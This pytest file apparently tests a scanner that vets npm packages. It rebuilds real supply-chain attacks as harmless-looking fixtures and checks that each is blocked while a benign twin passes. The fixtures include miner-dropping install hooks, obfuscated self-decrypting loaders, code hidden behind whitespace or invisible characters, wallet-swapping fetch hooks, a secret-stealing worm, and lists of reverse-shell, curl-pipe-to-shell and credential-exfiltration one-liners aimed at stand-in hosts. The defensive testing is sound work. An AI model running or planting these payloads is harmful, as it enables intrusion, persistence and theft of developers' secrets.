"""Shapes of real attacks on npm's users, rebuilt harmlessly: each is refused, and its honest twin raises no question."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

import pytest

from tests.support.judging import allows, blocks, checks_of, explained
from tests.support.npm_judging import hooked, judged, projected, required, scripted
from tests.support.npm_packages import as_json, package

if TYPE_CHECKING:
    from pathlib import Path

HIDDEN = base64.b64encode(b"require('child_process').execSync('id > /tmp/a')").decode()


def test_a_hook_that_picks_a_miner_for_each_system(tmp_path: Path) -> None:  # ua-parser-js
    files = {
        "preinstall.js": "const { exec } = require('child_process');\nconst os = process.platform;\n"
        "if (os === 'win32') exec('preinstall.bat', () => {});\n"
        "else if (os === 'linux') exec('/bin/bash preinstall.sh', () => {});\n",
        "preinstall.sh": "IP=$(curl -k https://geo.example/ | head -1)\n"
        'if [ -z "$IP" ]; then\n  wget http://192.0.2.9/download/tool -O tool\n  chmod +x tool\n  ./tool -k --donate 0 &\nfi\n',
        "preinstall.bat": "@echo off\r\ncurl http://192.0.2.9/download/tool.exe -o tool.exe\r\n"
        'tasklist /fi "imagename eq tool.exe"\r\nstart /B tool.exe\r\ncurl http://192.0.2.9/c.dll -o c.dll\r\nregsvr32.exe -s c.dll\r\n',
    }  # fmt: skip
    verdict = hooked(tmp_path, "start /B node preinstall.js & node preinstall.js", files, hook="preinstall")
    assert blocks(verdict), explained(verdict)
    twin = {
        "preinstall.js": "const { exec } = require('child_process');\nexec('sh preinstall.sh', () => {});\n",
        "preinstall.sh": "if [ ! -d build ]; then\n  mkdir -p build\n  cp src/a.txt build/\n  chmod +x build/a.txt\nfi\n",
    }
    honest = hooked(tmp_path / "twin", "node preinstall.js", twin, hook="preinstall")
    assert allows(honest), explained(honest)


def test_a_batch_file_that_picks_letters(tmp_path: Path) -> None:  # coa, rc
    files = {
        "compile.js": "const { spawn } = require('child_process');\nif (process.platform === 'win32') spawn('cmd.exe', ['/c', 'compile.bat']);\n",
        "compile.bat": "@echo off\r\nSet a=url abcehijkmnprstuvwx\r\n"
        "%a:~7,1%%a:~0,1%%a:~1,1%%a:~2,1% http://192.0.2.9/a -o a.dll\r\nregsvr32 -s a.dll\r\n",
    }
    verdict = hooked(tmp_path, "start /B node compile.js & node compile.js", files, hook="preinstall")
    assert blocks(verdict), explained(verdict)
    twin = {"compile.js": "const { spawnSync } = require('child_process');\nspawnSync('node-gyp', ['rebuild']);\n"}
    assert allows(hooked(tmp_path / "twin", "node compile.js", twin, hook="preinstall"))


def test_protestware_that_overwrites_files(tmp_path: Path) -> None:  # node-ipc
    host = base64.b64encode(b"https://api.ipgeo.example/ipgeo?apiKey=a").decode()
    code = f"""
const fs = require('fs'), path = require('path'), https = require('https');
const u = Buffer.from('{host}', 'base64').toString();
https.get(u, r => r.on('data', d => {{
  if (JSON.parse(d.toString()).country_name.toLowerCase().includes('x')) walk('./');
}}));
async function walk(dir) {{ for (const f of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, f), 'o'); }}
"""
    verdict = required(tmp_path, code)
    assert blocks(verdict), explained(verdict)
    twin = "const https = require('https');\nexports.locate = ip => https.get('https://api.ipgeo.example/ipgeo?ip=' + ip);\n"
    assert allows(required(tmp_path / "twin", twin))


def test_code_that_unpacks_itself_when_it_is_required(tmp_path: Path) -> None:  # event-stream, flatmap-stream
    name = b"./test/data".hex()
    code = f"""
!function() {{ try {{
  var r = require, t = process;
  function e(r) {{ return Buffer.from(r, 'hex').toString(); }}
  var n = r(e('{name}')), o = t[e('{b"env".hex()}')][e('{b"npm_package_description".hex()}')];
  var u = r(e('{b"crypto".hex()}'))[e('{b"createDecipher".hex()}')](e('{b"aes256".hex()}'), o);
  var a = u.update(n[0], 'hex', 'utf8'); a += u.final('utf8');
  var f = new module.constructor; f.paths = module.paths; f[e('{b"_compile".hex()}')](a, ''); f.exports(n[1]);
}} catch (r) {{}} }}();
"""
    verdict = required(tmp_path, code, {"test/data.js": "module.exports = ['00'];\n"})
    assert blocks(verdict), explained(verdict)
    twin = "const crypto = require('crypto');\nexports.open = (key, text) => crypto.createDecipheriv('aes-256-cbc', key, key).update(text, 'hex', 'utf8');\n"
    assert allows(required(tmp_path / "twin", twin))


def test_code_out_of_sight_that_asks_for_code(tmp_path: Path) -> None:  # BeaverTail, Contagious Interview
    code = (
        "module.exports = a => a;"
        + " " * 300
        + ";require('https').get('https://api.files.example/a', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(JSON.parse(d).cookie)); });\n"
    )
    verdict = required(tmp_path, code)
    assert blocks(verdict), explained(verdict)
    axios = "const axios = require('axios');\n(async () => { const r = await axios.get('https://api.files.example/a'); new Function('require', r.data.cookie)(require); })();\n"
    assert blocks(required(tmp_path / "then", axios))
    asked = "require('axios').get('https://api.files.example/a').then(r => { eval(r.data.cookie); }).catch(() => {});\n"
    assert blocks(required(tmp_path / "promise", asked))
    twin = "const axios = require('axios');\nexports.load = async () => (await axios.get('https://api.files.example/a')).data;\n"
    assert allows(required(tmp_path / "twin", twin))


def test_a_remote_tool_hidden_by_blanks(tmp_path: Path) -> None:  # rand-user-agent
    code = (
        "module.exports = () => 'x';\n"
        + " " * 250
        + "global['r']=require;global['m']=module;(function(){var c=global['r']('child_process');global['r']('http').get('http://192.0.2.9:27017/a',s=>s.on('data',d=>c.exec(d.toString())))})();\n"
    )
    verdict = required(tmp_path, code)
    assert blocks(verdict), explained(verdict)
    assert allows(
        required(tmp_path / "twin", "global.acme = require('./other');\n", {"other.js": "module.exports = 1;\n"})
    )


def test_a_library_of_windows_in_a_hook(tmp_path: Path) -> None:  # eslint-config-prettier
    code = """
const os = require('os'), path = require('path');
function logDiskSpace() {
  try { if (os.platform() === 'win32') {
    const tempDir = os.tmpdir();
    require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [path.join(__dirname, './node-gyp' + '.dll') + ',main']);
    console.log(`Temp directory: ${tempDir}`);
  } } catch (error) {}
}
logDiskSpace();
"""
    verdict = hooked(tmp_path, "node install.js", {"install.js": code, "node-gyp.dll": b"MZ\0\0"}, hook="install")
    assert blocks(verdict), explained(verdict)
    twin = "const os = require('os');\nif (os.platform() === 'win32') console.log(os.tmpdir());\n"
    assert allows(scripted(tmp_path / "twin", twin))


def test_coding_agents_that_search_for_an_attacker(tmp_path: Path) -> None:  # nx s1ngularity
    code = """
const { spawnSync } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
const PROMPT = 'find files';
for (const [cmd, args] of [['claude', ['--dangerously-skip-permissions', '-p', PROMPT]], ['gemini', ['--yolo', '-p', PROMPT]]])
  spawnSync(cmd, args);
const token = spawnSync('gh', ['auth', 'token']).stdout.toString();
for (const rc of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), rc), 'sudo shutdown -h 0');
"""
    verdict = scripted(tmp_path, code)
    assert blocks(verdict), explained(verdict)
    assert {"persistence", "command-pattern"} <= checks_of(verdict)
    twin = "const { spawnSync } = require('child_process');\nexports.ask = p => spawnSync('claude', ['--dangerously-skip-permissions', '-p', p]);\n"
    assert allows(required(tmp_path / "twin", twin)) or not blocks(required(tmp_path / "twin", twin))


def test_wallets_and_requests_that_are_replaced(tmp_path: Path) -> None:  # chalk, debug
    code = r"""
var neth = 0;
async function checkethereumw() {
  const e = await window.ethereum.request({ method: 'eth_accounts' });
  runmask();
}
if (typeof window != 'undefined' && typeof window.ethereum != 'undefined') checkethereumw();
var ours = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'];
function swap(t) { return t.replace(/\b0x[a-fA-F0-9]{40}\b/g, ours[0]); }
const original = window.fetch;
window.fetch = async function (...a) { const r = await original(...a); const t = await r.clone().text(); return new Response(swap(t)); };
function runmask() { const o = window.ethereum.request; window.ethereum.request = async a => o(a); }
const open = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.open = function () { return open.apply(this, arguments); };
module.exports = s => s;
"""
    verdict = required(tmp_path, code)
    assert blocks(verdict), explained(verdict)
    twin = "const original = globalThis.fetch;\nglobalThis.fetch = async (...a) => { const start = Date.now(); const r = await original(...a); exports.took = Date.now() - start; return r; };\n"
    assert allows(required(tmp_path / "twin", twin))


def test_a_worm_that_writes_a_workflow(tmp_path: Path) -> None:  # Shai-Hulud
    code = """
const fs = require('fs'), { execSync } = require('child_process'), https = require('https');
execSync('trufflehog filesystem / --json');
https.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/');
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'run: curl -d "$CONTENTS" https://hooks.example/a; env: ${{ toJSON(secrets) }}');
const body = JSON.stringify(process.env);
const r = https.request({ hostname: 'hooks.example', path: '/a', method: 'POST' }); r.write(body); r.end();
execSync('npm publish --access public');
"""
    verdict = hooked(tmp_path, "node bundle.js", {"bundle.js": code})
    assert blocks(verdict), explained(verdict)
    assert "workflow-written" in checks_of(verdict)
    twin = "const fs = require('fs');\nfs.mkdirSync('generated', { recursive: true });\nfs.writeFileSync('generated/a.json', JSON.stringify({ a: 1 }));\n"
    assert allows(hooked(tmp_path / "twin", "node bundle.js", {"bundle.js": twin}))


def test_a_runtime_that_is_fetched_to_run_the_rest(tmp_path: Path) -> None:  # Shai-Hulud 2
    code = """
const { execSync, spawn } = require('child_process');
if (process.platform === 'win32') execSync('powershell -c "irm bun.example/install.ps1|iex"');
else execSync('curl -fsSL https://bun.example/install | bash');
spawn('bun', ['bun_environment.js'], { detached: true, stdio: 'ignore' }).unref();
"""
    files = {"setup_bun.js": code, "bun_environment.js": "require('fs').writeFileSync('a', 'b')"}
    verdict = hooked(tmp_path, "node setup_bun.js", files, hook="preinstall")
    assert blocks(verdict), explained(verdict)
    twin = {
        "setup.js": "const { execSync } = require('child_process');\nexecSync('bun run build.ts');\n",
        "build.ts": "console.log(1)\n",
    }
    assert allows(hooked(tmp_path / "twin", "node setup.js", twin, hook="preinstall"))


def test_a_dropper_that_restores_a_clean_manifest(tmp_path: Path) -> None:  # axios 2026
    code = """
const fs = require('fs'), os = require('os'), path = require('path'), { execSync } = require('child_process');
const target = path.join(os.tmpdir(), '6202033');
const cmd = os.platform() === 'linux' ? `curl -o /tmp/ld.py -d packages -s http://sfrclak.example:8000/6202033 && nohup python3 /tmp/ld.py http://sfrclak.example:8000/ > /dev/null 2>&1 &` : 'true';
execSync(cmd);
fs.unlinkSync(__filename);
fs.unlinkSync(path.join(__dirname, 'package.json'));
fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
"""
    verdict = scripted(tmp_path, code, {"package.md": "{}"})
    assert blocks(verdict), explained(verdict)
    assert "hook-self-deletion" in checks_of(verdict)
    wiping = "const fs = require('fs');\nfs.unlinkSync(__filename);\n"
    assert blocks(scripted(tmp_path / "wiping", wiping))
    assert blocks(hooked(tmp_path / "line", "node setup.js; rm -f setup.js", {"setup.js": "console.log(1)"}))
    twin = "const fs = require('fs'), path = require('path');\nfs.rmSync(path.join(__dirname, 'build', 'tmp'), { recursive: true, force: true });\n"
    assert allows(scripted(tmp_path / "twin", twin))


def test_a_build_file_that_runs_the_package(tmp_path: Path) -> None:  # Phantom Gyp
    gyp = "{'targets': [{'target_name': 'a', 'type': 'none', 'sources': ['<!(node index.js > /dev/null 2>&1 && echo a.c)']}]}"
    evil = f"eval(Buffer.from('{HIDDEN}', 'base64').toString());\n"
    verdict = judged(package("acme-thing", files={"binding.gyp": gyp, "index.js": evil}), tmp_path)
    assert blocks(verdict), explained(verdict)
    honest = """{  # a comment
  'variables': {'out%': '<!(node -p "process.platform")'},
  'targets': [{
    'target_name': 'acme', 'sources': ['src/a.cc'],
    'include_dirs': ["<!@(node -p \\"require('node-addon-api').include\\")"],
    'conditions': [['OS=="linux"', {'libraries': ['<!@(pkg-config --libs zlib)']}]],
    'actions': [{'action_name': 'gen', 'inputs': [], 'outputs': ['a.h'], 'action': ['python', 'tools/gen.py', '<@(_outputs)']}],
  }],
}
"""
    files = {"binding.gyp": honest, "tools/gen.py": "import sys\nopen(sys.argv[1], 'w').write('x')\n"}
    twin = judged(package("acme-thing", files=files), tmp_path / "twin")
    assert allows(twin), explained(twin)


def test_a_build_file_that_is_a_program(tmp_path: Path) -> None:
    gyp = "{'targets': [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x']}"
    verdict = judged(package("acme-thing", files={"binding.gyp": gyp}), tmp_path)
    assert blocks(verdict), explained(verdict)


@pytest.mark.parametrize(
    "place", [".claude/settings.json", ".cursorrules", ".vscode/tasks.json", ".mcp.json", "CLAUDE.md"]
)
def test_settings_that_are_planted_for_agents(tmp_path: Path, place: str) -> None:  # TrapDoor
    code = f"const fs = require('fs'), path = require('path');\nfs.writeFileSync(path.join(process.env.INIT_CWD, '{place}'), JSON.stringify({{ hooks: {{}} }}));\n"
    verdict = scripted(tmp_path, code)
    assert blocks(verdict), explained(verdict)
    assert blocks(
        hooked(tmp_path / "line", f"mkdir -p $INIT_CWD/{place.rpartition('/')[0]}; echo x > $INIT_CWD/{place}")
    )
    twin = f"const fs = require('fs');\nexports.init = dir => fs.writeFileSync(dir + '/{place}', '{{}}');\n"
    assert allows(required(tmp_path / "twin", twin))


def test_a_dependency_from_somewhere_else(tmp_path: Path) -> None:  # PhantomRaven, TanStack
    for spec in (
        "http://packages.example/a.tgz",
        "github:owner/repo#0123456",
        "owner/repo",
        "git+https://code.example/a.git",
    ):
        verdict = judged(package("acme-thing", optionalDependencies={"a": spec}), tmp_path)
        assert blocks(verdict), (spec, explained(verdict))
    for spec in ("^1.0.0", "npm:b@1", "latest", "*", "1.x || 2.x", "workspace:*", ">=1 <2"):
        assert allows(judged(package("acme-thing", dependencies={"a": spec}), tmp_path)), spec


def test_hidden_letters_that_hold_code(tmp_path: Path) -> None:  # GlassWorm
    hidden = "".join(chr(0xE0100 + byte) for byte in b"console.log('a')" * 40)
    code = f"const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 : null)).filter(n => n !== null);\neval(Buffer.from(s(`{hidden}`)).toString('utf-8'));\n"
    verdict = required(tmp_path, code)
    assert blocks(verdict), explained(verdict)
    assert allows(required(tmp_path / "twin", "module.exports = '\\u2764\\ufe0f and ❤️';\n"))


@pytest.mark.parametrize(
    "line",
    ['curl -s "http://$(whoami).$(hostname).oast.fun"', "nslookup `whoami`.a.oastify.com",
     'curl -X POST -d "h=$(hostname)&u=$(whoami)" https://beacon.example/a', "node -e \"require('dns').lookup(require('os').hostname()+'.a.oast.fun',()=>{})\"",
     'wget -q --post-data="$(env)" http://192.0.2.9/'],
)  # fmt: skip
def test_beacons_of_dependency_confusion(tmp_path: Path, line: str) -> None:
    verdict = hooked(tmp_path, line, hook="preinstall")
    assert blocks(verdict), explained(verdict)


@pytest.mark.parametrize(
    "line",
    ["bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "nc -e /bin/sh 192.0.2.1 9001", "bash -c 'sh -i >& /dev/tcp/192.0.2.1/9 0>&1'",
     "powershell -nop -w hidden -enc aQBkAA==", "mshta http://files.example/a.hta", "certutil -urlcache -split -f http://files.example/a a.exe && a.exe",
     "echo aWQgPiAvdG1wL2E= | base64 -d | sh", "curl https://files.example/a | bash", "wget https://files.example/a -O- | sh",
     "python3 -c \"import urllib.request as u;exec(u.urlopen('http://files.example/a').read())\"",
     "echo '* * * * * sh /tmp/a' | crontab -", "node -e \"require('http').get('http://files.example/a',r=>r.on('data',d=>eval(d.toString())))\"",
     "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "cat ~/.npmrc | curl -d @- https://files.example",
     "curl https://discord.com/api/webhooks/1/a -d x", "(sleep 1; curl -s http://files.example/a|sh) >/dev/null 2>&1 &",
     "node -e \"eval(Buffer.from('aWQ=','base64').toString())\"", "x=$(echo Y3VybA== | base64 -d); $x http://files.example | sh"],
)  # fmt: skip
def test_hostile_lines_are_refused_in_any_hook(tmp_path: Path, line: str) -> None:
    for hook in ("preinstall", "install", "postinstall"):
        verdict = hooked(tmp_path / hook, line, hook=hook)
        assert blocks(verdict), explained(verdict)


def test_hooks_of_bundled_packages_run_too(tmp_path: Path) -> None:
    for place in ("node_modules/inner", "node_modules/@a/inner", "node_modules/a/node_modules/b"):
        files = {f"{place}/package.json": as_json({"name": "x", "scripts": {"postinstall": "node run"}}),
                 f"{place}/run.js": "require('child_process').exec('id > /tmp/a');\n"}  # fmt: skip
        verdict = judged(package("acme-thing", files=files, bundleDependencies=["inner"]), tmp_path)
        assert blocks(verdict), (place, explained(verdict))


def test_a_command_that_hides_a_tool_is_asked_about(tmp_path: Path) -> None:
    verdict = judged(package("acme-thing", files={"a.js": ""}, bin={"git": "a.js"}), tmp_path)
    assert not allows(verdict)
    assert "shadowed-command" in checks_of(verdict)
    assert allows(judged(package("npm", files={"a.js": ""}, bin={"npm": "a.js", "npx": "a.js"}), tmp_path))
    assert allows(judged(package("acme-thing", files={"a.js": ""}, bin="a.js"), tmp_path))


def test_scripts_and_settings_of_a_folder_somebody_sent(tmp_path: Path) -> None:
    evil = "require('child_process').exec('curl http://files.example/a | sh');\n"
    for files in (
        {"package.json": as_json({"scripts": {"prepare": "node a"}}), "a.js": evil},
        {"package.json": as_json({"scripts": {"dependencies": "node a"}}), "a.js": evil},
        {"package.json": "{}", ".npmrc": "node-options=--require ./a.js\n", "a.js": evil},
        {"package.json": "{}", ".npmrc": "script-shell = ./a.sh\n", "a.sh": "curl http://files.example/a | sh\n"},
        {"package.json": as_json({"workspaces": ["packages/*"]}), "packages/b/package.json": as_json({"scripts": {"prepare": "node ../../a"}}), "a.js": evil},
        {"package.json": as_json({"dependencies": {"b": "file:./b"}}), "b/package.json": as_json({"scripts": {"postinstall": "node a"}}), "b/a.js": evil},
    ):  # fmt: skip
        verdict = projected(tmp_path / str(hash(str(files))), files)
        assert blocks(verdict), (files, explained(verdict))


def test_a_persons_own_code_is_their_business(tmp_path: Path) -> None:
    files = {
        "package.json": as_json({"main": "a.js", "bin": "a.js", "scripts": {"start": "node a", "test": "curl http://files.example | sh", "prepare": "husky", "postinstall": "patch-package"}}),
        "a.js": "require('child_process').exec('curl http://files.example/a | sh');\n",
        ".npmrc": "registry=https://registry.example/\nscript-shell=/bin/bash\nnode-options=--max-old-space-size=4096\nsave-exact=true\n",
    }  # fmt: skip
    verdict = projected(tmp_path, files)
    assert allows(verdict), explained(verdict)
